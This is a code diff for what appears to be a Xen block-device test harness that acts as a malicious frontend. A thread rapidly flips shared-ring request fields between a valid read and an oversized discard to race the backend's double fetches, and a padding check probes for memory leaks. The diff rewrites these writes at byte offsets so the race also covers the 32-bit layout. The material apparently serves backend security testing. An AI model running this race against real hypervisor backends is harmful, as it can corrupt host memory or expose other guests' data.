@@ -99,25 +99,21 @@ static struct {
 
 static bool abi32;
 
-/* A slot's first byte. */
-static volatile uint8_t *slot_of(const struct blkfront *bf, RING_IDX idx)
-{
-	return (volatile uint8_t *)blkfront_raw_ring((struct blkfront *)bf)->ring +
-	       (size_t)(idx % blkfront_entries(bf)) * (abi32 ? 108 : 112);
-}
-
+/* By bytes: a slot of the 32-bit layout is no aligned blkif_request_t. */
 static void *flip(void *arg)
 {
+	const int last_sect = (abi32 ? 20 : 24) + 5;
+
 	while (!flipper.stop) {
 		for (RING_IDX i = 0; i < blkfront_entries(flipper.bf); i++) {
-			volatile blkif_request_t *r = blkfront_raw_entry(flipper.bf, i);
+			volatile uint8_t *r = blkfront_raw_entry(flipper.bf, i);
 
-			r->nr_segments = 255;
-			r->seg[0].last_sect = 255;
-			r->operation = BLKIF_OP_DISCARD;
-			r->nr_segments = 1;
-			r->seg[0].last_sect = 7;
-			r->operation = BLKIF_OP_READ;
+			r[1] = 255; /* nr_segments */
+			r[last_sect] = 255;
+			r[0] = BLKIF_OP_DISCARD;
+			r[1] = 1;
+			r[last_sect] = 7;
+			r[0] = BLKIF_OP_READ;
 		}
 	}
 	return arg;
@@ -148,7 +144,7 @@ static void attack_flip(struct blkfront *bf)
  * memory. */
 static void attack_padding(struct blkfront *bf)
 {
-	volatile uint8_t *raw = slot_of(bf, blkfront_raw_prod(bf));
+	volatile uint8_t *raw = blkfront_raw_entry(bf, blkfront_raw_prod(bf));
 	blkif_request_t r = good_read(bf, 0xaaaaaaaaaaaaaaaaU);
 	blkif_response_t rsp;
 	bool leak;
